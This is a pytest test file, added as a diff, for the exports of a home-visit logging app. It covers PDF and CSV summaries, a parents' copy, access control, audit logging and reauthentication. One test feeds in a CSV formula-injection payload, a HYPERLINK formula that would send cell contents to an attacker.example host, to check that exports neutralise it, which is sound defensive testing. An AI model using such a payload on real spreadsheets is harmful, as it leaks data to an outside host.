@@ -1,0 +1,340 @@
+"""The summary PDF and CSVs and the parents' copy, read back with poppler-utils and csv."""
+
+from __future__ import annotations
+
+import datetime as dt
+import hashlib
+import re
+from zoneinfo import ZoneInfo
+
+from sqlalchemy import select, update
+
+from homelog.accounts.models import User, UserSession
+from homelog.exports.csv_files import SUMMARY_HEADER, neutralise
+from homelog.exports.report import age_in_words, status_of
+from homelog.extensions import db
+from tests.exports.conftest import (
+    Team,
+    export_entries,
+    pdf_images,
+    pdf_pages,
+    pdf_text,
+    read_csv,
+    rendered_pages,
+)
+from tests.factories import DOMAINS, visit_body
+
+ZONE = ZoneInfo("Europe/London")
+MARKING = "OFFICIAL-SENSITIVE"
+
+
+def _days_ago(days: float, hour: int = 11) -> str:
+    when = dt.datetime.now(ZONE).replace(hour=hour, minute=5, second=0, microsecond=0)
+    return (when - dt.timedelta(days=days)).isoformat()
+
+
+def _printed(day_iso: str) -> str:
+    """A visit's date as the PDF prints it (partnership time): "3 Mar 2026"."""
+    local = dt.datetime.fromisoformat(day_iso).astimezone(ZONE)
+    return f"{local.day} {local:%b %Y}"
+
+
+def _assert_marked_and_numbered(data: bytes) -> list[str]:
+    pages = pdf_pages(data)
+    assert pages, "the PDF has no text at all"
+    for number, page in enumerate(pages, start=1):
+        assert page.count(MARKING) >= 2, f"page {number} lacks the marking top and bottom"
+        assert f"Page {number} of {len(pages)}" in page, f"page {number} is not numbered"
+    return pages
+
+
+def _agree(team: Team, note: str = "", levels: dict[str, int] | None = None) -> None:
+    response = team.lead.put(team.url("agreement"), json={
+        "agreed_on": (dt.date.today() - dt.timedelta(days=30)).isoformat(),
+        "levels": levels or dict.fromkeys(DOMAINS, 2), "note": note,
+        "shared_with_parents_on": (dt.date.today() - dt.timedelta(days=29)).isoformat()})
+    assert response.status_code == 200, response.json
+
+
+# --- the summary PDF -----------------------------------------------------------------------
+
+def test_summary_pdf_holds_flags_responses_visit_dates_and_charts(team: Team):
+    first = team.practitioner.submit_visit(team.family.id, visit_body(
+        visited_at=_days_ago(20), announced=True))
+    assert first.status_code == 201
+    second_at = _days_ago(3)
+    second = team.practitioner.submit_visit(team.family.id, visit_body(
+        visited_at=second_at, concerns=["no_food"],
+        scores=dict.fromkeys(DOMAINS, 2) | {"food": 5, "kitchen": 4},
+        notes="Fridge and cupboards empty; mother says benefits are late."))
+    assert second.status_code == 201
+    flags = team.lead.get(team.url("flags")).json
+    assert flags, "an immediate concern raises a flag at once"
+    response_text = "Food bank parcel delivered the same day; revisit tomorrow."
+    acknowledged = team.lead.post(f"/api/v1/flags/{flags[0]['id']}/acknowledge",
+                                  json={"response": response_text})
+    assert acknowledged.status_code == 200
+
+    pdf = team.lead.get(team.url("summary.pdf"))
+    assert pdf.status_code == 200, pdf.get_data(as_text=True)[:300]
+    assert pdf.mimetype == "application/pdf" and pdf.data.startswith(b"%PDF-")
+    assert pdf.headers["Cache-Control"] == "private, no-store"
+    disposition = pdf.headers["Content-Disposition"]
+    assert re.fullmatch(r'attachment; filename="homelog-[A-Za-z0-9_-]+-summary-'
+                        r'\d{4}-\d\d-\d\d-to-\d{4}-\d\d-\d\d\.pdf"', disposition), disposition
+
+    pages = _assert_marked_and_numbered(pdf.data)
+    text = pdf_text(pdf.data)
+    assert team.family.reference in text
+    for flag in flags:
+        assert " ".join(flag["explanation"].split()) in text
+    assert response_text in text
+    assert _printed(first.json["visited_at"]) in text, text
+    assert _printed(second_at) in text, text
+    assert "Fridge and cupboards empty" in text
+    assert "(!!) Concern" in text  # the glance says it in words, not only by shading
+    charts = [image for image in pdf_images(pdf.data) if image["color"] == "gray"]
+    assert len(charts) == len(DOMAINS), "one trend chart per scored domain"
+    assert rendered_pages(pdf.data) == len(pages)
+
+
+def test_summary_pdf_of_a_family_with_no_visits(team: Team):
+    pdf = team.lead.get(team.url("summary.pdf"))
+    assert pdf.status_code == 200
+    pages = _assert_marked_and_numbered(pdf.data)
+    text = pdf_text(pdf.data)
+    assert "No visits or events were recorded in this period" in text
+    assert "Homelog raised no flags in this period" in text
+    assert "No photos in this period" in text
+    assert pdf_images(pdf.data) == []
+    assert rendered_pages(pdf.data) == len(pages)
+
+
+def test_the_period_chooses_what_is_shown(team: Team):
+    old, recent = _days_ago(60), _days_ago(5)
+    for when, note in ((old, "Old visit note."), (recent, "Recent visit note.")):
+        assert team.practitioner.submit_visit(team.family.id, visit_body(
+            visited_at=when, notes=note)).status_code == 201
+    start = (dt.date.today() - dt.timedelta(days=10)).isoformat()
+    pdf = team.lead.get(team.url("summary.pdf"), query_string={"from": start})
+    text = pdf_text(pdf.data)
+    assert "Recent visit note." in text and "Old visit note." not in text
+    rows = read_csv(team.lead.get(team.url("visits.csv"), query_string={"from": start}).data)
+    assert len(rows) == 2 and rows[1][-3] == "Recent visit note."
+
+
+def test_bad_periods_are_refused_naming_the_field(team: Team):
+    today = dt.date.today()
+    cases = [
+        ({"from": "2026-13-01"}, "from"),
+        ({"to": "yesterday"}, "to"),
+        ({"from": today.isoformat(), "to": (today - dt.timedelta(days=1)).isoformat()}, "from"),
+        ({"to": (today + dt.timedelta(days=2)).isoformat()}, "to"),
+        ({"from": "1800-01-01"}, "from"),
+        ({"since": "2026-01-01"}, "since"),
+    ]
+    for what in ("summary.pdf", "summary.csv", "visits.csv"):
+        for query, field in cases:
+            response = team.lead.get(team.url(what), query_string=query)
+            assert response.status_code == 422, (what, query, response.status_code)
+            assert field in response.json["error"]["fields"], (what, query, response.json)
+
+
+# --- CSV -----------------------------------------------------------------------------------
+
+def test_csvs_round_trip_and_neutralise_formulas(team: Team):
+    hostile = '=HYPERLINK("http://attacker.example/steal?x="&A1,"Click for details")'
+    bodies = [
+        visit_body(visited_at=_days_ago(9), notes=hostile),
+        visit_body(visited_at=_days_ago(6), notes="+44 7700 900000 called",
+                   child_presentation="@SUM(1+1)"),
+        visit_body(visited_at=_days_ago(2), notes="-2 degrees outside; heating off",
+                   scores=dict.fromkeys(DOMAINS, 2) | {"warmth": None, "air": 4}),
+    ]
+    for body in bodies:
+        assert team.practitioner.submit_visit(team.family.id, body).status_code == 201
+
+    scores = team.lead.get(team.url("summary.csv"))
+    assert scores.status_code == 200
+    assert scores.mimetype == "text/csv" and scores.headers["Cache-Control"] == "private, no-store"
+    assert scores.headers["Content-Disposition"].startswith('attachment; filename="homelog-')
+    assert b"\r\n" in scores.data
+    rows = read_csv(scores.data)
+    assert tuple(rows[0]) == SUMMARY_HEADER
+    assert len(rows) == 1 + len(bodies) * len(DOMAINS)
+    assert all(row[0] == team.family.reference for row in rows[1:])
+    warmth = [row for row in rows[1:] if row[7] == "warmth"]
+    assert [row[9] for row in warmth] == ["2", "2", ""]  # not seen: empty, never a 0
+    assert [row[11] for row in warmth] == ["good enough", "good enough", "not seen"]
+    air = [row for row in rows[1:] if row[7] == "air"]
+    assert air[-1][9:] == ["4", "2", "concern"]
+
+    visits = read_csv(team.lead.get(team.url("visits.csv")).data)
+    assert len(visits) == 1 + len(bodies)
+    notes = {row[1]: row[-3] for row in visits[1:]}
+    assert sorted(notes.values()) == sorted([
+        "'" + hostile, "'+44 7700 900000 called", "'-2 degrees outside; heating off"])
+    assert any(row[-4] == "'@SUM(1+1)" for row in visits[1:])
+    for row in visits[1:]:
+        assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row), row
+
+
+def test_neutralise_only_touches_text_that_starts_like_a_formula():
+    for risky in ("=1+1", "+1", "-1", "@A1", "\t=1", "\r=1"):
+        assert neutralise(risky) == "'" + risky
+    for safe in ("Kitchen", "1-2", "", "a=b"):
+        assert neutralise(safe) == safe
+
+
+# --- the parents' copy --------------------------------------------------------------------
+
+def test_parents_copy_is_plain_and_holds_no_scores_flags_or_notes(team: Team):
+    agreement_note = "Core group note: mother minimises the dog mess issue."
+    _agree(team, note=agreement_note, levels=dict.fromkeys(DOMAINS, 2) | {"sleep": 1})
+    visit_note = "Baby asleep on the sofa with father after he had been drinking."
+    assert team.practitioner.submit_visit(team.family.id, visit_body(
+        visited_at=_days_ago(1), concerns=["unsafe_sleep"], notes=visit_note,
+        scores=dict.fromkeys(DOMAINS, 4))).status_code == 201
+    flags = team.lead.get(team.url("flags")).json
+    assert flags
+
+    pdf = team.lead.get(team.url("agreement.pdf"))
+    assert pdf.status_code == 200 and pdf.mimetype == "application/pdf"
+    assert "agreement-parents-copy.pdf" in pdf.headers["Content-Disposition"]
+    pages = pdf_pages(pdf.data)
+    assert 1 <= len(pages) <= 2
+    text = pdf_text(pdf.data)
+    agreement = team.lead.get(team.url("agreement")).json["current"]
+    for level in agreement["levels"]:
+        assert " ".join(level["descriptor"].split()) in text  # the rubric's own words
+    assert "Own cot/bed, clean bedding" in text  # sleep agreed at 1
+    agreed_on = dt.date.fromisoformat(agreement["agreed_on"])
+    assert f"{agreed_on.day} {agreed_on:%B %Y}" in text
+    assert agreement["recorded_by"] in text
+    leaks = [agreement_note, visit_note, *[flag["explanation"] for flag in flags],
+             "Score", "score", "Flag", "flag", "OFFICIAL", "concern", "level"]
+    for leak in leaks:
+        assert " ".join(leak.split()) not in text, f"the parents' copy shows {leak!r}"
+    # No number but the dates, page numbers and names (test agencies are numbered): no
+    # level or score can hide in it.
+    stripped = re.sub(r"\b\d{1,2} [A-Z][a-z]+ \d{4}\b|Page \d+ of \d+|written down by [^.]*",
+                      "", text.replace(team.family.reference, ""))
+    assert not re.search(r"\d", stripped), stripped
+
+
+def test_parents_copy_needs_an_agreement(team: Team):
+    response = team.lead.get(team.url("agreement.pdf"))
+    assert response.status_code == 409
+    assert response.json["error"]["code"] == "no_agreement"
+
+
+# --- access, audit and a recent sign-in ----------------------------------------------------
+
+EXPORTS = ("summary.pdf", "summary.csv", "visits.csv", "agreement.pdf")
+
+
+def test_outsiders_get_404_and_strangers_401(team: Team, factory, make_client):
+    _agree(team)
+    outsider = make_client()
+    assert outsider.sign_in(factory.lead().email).status_code == 201
+    anonymous = make_client()
+    for what in EXPORTS:
+        assert outsider.get(team.url(what)).status_code == 404, what
+        assert anonymous.get(team.url(what)).status_code == 401, what
+        assert team.practitioner.get(team.url(what)).status_code == 200, what
+    assert outsider.get("/api/v1/families/999999999/summary.pdf").status_code == 404
+    assert export_entries(team.lead.app, team.family.id) and all(
+        entry.user_id == team.practitioner_ref.id
+        for entry in export_entries(team.lead.app, team.family.id))
+
+
+def test_every_export_is_audited_with_period_format_and_hash(team: Team):
+    _agree(team)
+    assert team.practitioner.submit_visit(team.family.id, visit_body()).status_code == 201
+    start = (dt.date.today() - dt.timedelta(days=40)).isoformat()
+    end = dt.date.today().isoformat()
+    produced = {}
+    for what in EXPORTS:
+        response = team.lead.get(team.url(what), query_string={} if what == "agreement.pdf"
+                                 else {"from": start, "to": end})
+        assert response.status_code == 200, what
+        produced[what] = response.data
+    entries = export_entries(team.lead.app, team.family.id)
+    assert len(entries) == len(EXPORTS)
+    expected = {"summary.pdf": ("summary", "pdf"), "summary.csv": ("summary", "csv"),
+                "visits.csv": ("visits", "csv"), "agreement.pdf": ("agreement", "pdf")}
+    for entry, (what, data) in zip(entries, produced.items(), strict=True):
+        assert entry.user_id == team.family.lead.id
+        assert (entry.detail["export"], entry.detail["format"]) == expected[what]
+        assert entry.detail["sha256"] == hashlib.sha256(data).hexdigest()
+        assert entry.detail["bytes"] == len(data)
+        period = (None, None) if what == "agreement.pdf" else (start, end)
+        assert (entry.detail["from"], entry.detail["to"]) == period
+
+
+def test_a_refused_export_leaves_no_export_entry(team: Team, factory, make_client):
+    outsider = make_client()
+    assert outsider.sign_in(factory.user().email).status_code == 201
+    assert outsider.get(team.url("summary.pdf")).status_code == 404
+    assert team.lead.get(team.url("summary.pdf"), query_string={"from": "x"}).status_code == 422
+    assert export_entries(team.lead.app, team.family.id) == []
+
+
+def _age_session(app, email: str, hours: float) -> None:
+    with app.app_context():
+        user_id = db.session.execute(select(User.id).where(User.email == email)).scalar()
+        earlier = dt.datetime.now(dt.UTC) - dt.timedelta(hours=hours)
+        db.session.execute(update(UserSession).where(UserSession.user_id == user_id)
+                           .values(created_at=earlier))
+        db.session.commit()
+
+
+def test_an_old_sign_in_must_confirm_the_password_before_exporting(team: Team):
+    _agree(team)
+    _age_session(team.lead.app, team.family.lead.email, hours=2)
+    for what in EXPORTS:
+        refused = team.lead.get(team.url(what))
+        assert refused.status_code == 403, what
+        assert refused.json["error"]["code"] == "reauthentication_required"
+    assert team.lead.get(team.url("timeline")).status_code == 200  # still signed in
+
+    wrong = team.lead.post("/api/v1/session/confirm", json={"password": "not my password"})
+    assert wrong.status_code == 422 and "password" in wrong.json["error"]["fields"]
+    assert team.lead.get(team.url("summary.csv")).status_code == 403
+
+    confirmed = team.lead.post("/api/v1/session/confirm",
+                               json={"password": "correct horse battery staple"})
+    assert confirmed.status_code == 200, confirmed.json
+    until = dt.datetime.fromisoformat(confirmed.json["recent_until"])
+    assert dt.timedelta(minutes=14) < until - dt.datetime.now(dt.UTC) <= dt.timedelta(minutes=15)
+    for what in EXPORTS:
+        assert team.lead.get(team.url(what)).status_code == 200, what
+    # Outsiders learn nothing, however old their sign-in: 404 before any password question.
+    assert len(export_entries(team.lead.app, team.family.id)) == len(EXPORTS)
+
+
+def test_confirming_needs_a_signed_in_session_and_the_csrf_token(team: Team, make_client):
+    anonymous = make_client()
+    assert anonymous.post("/api/v1/session/confirm",
+                          json={"password": "correct horse battery staple"}).status_code == 401
+    team.lead.csrf = None
+    refused = team.lead.post("/api/v1/session/confirm",
+                             json={"password": "correct horse battery staple"})
+    assert refused.status_code == 403 and refused.json["error"]["code"] == "csrf_failed"
+
+
+# --- small rules ---------------------------------------------------------------------------
+
+def test_ages_and_statuses_in_words():
+    born = dt.date(2025, 3, 15)
+    assert age_in_words(born, dt.date(2025, 3, 18)) == "under a week"
+    assert age_in_words(born, dt.date(2025, 4, 1)) == "2 weeks"
+    assert age_in_words(born, dt.date(2025, 9, 20)) == "6 months"
+    assert age_in_words(born, dt.date(2026, 3, 15)) == "1 year"
+    assert age_in_words(born, dt.date(2027, 7, 14)) == "2 years 3 months"
+    assert status_of(2, 2, 4) == "good enough"
+    assert status_of(3, 2, 4) == "borderline"
+    assert status_of(2, 1, 4) == "borderline"
+    assert status_of(4, 2, 4) == "concern"
+    assert status_of(3, 3, 4) == "good enough"
+    assert status_of(None, 2, 4) == "not scored"
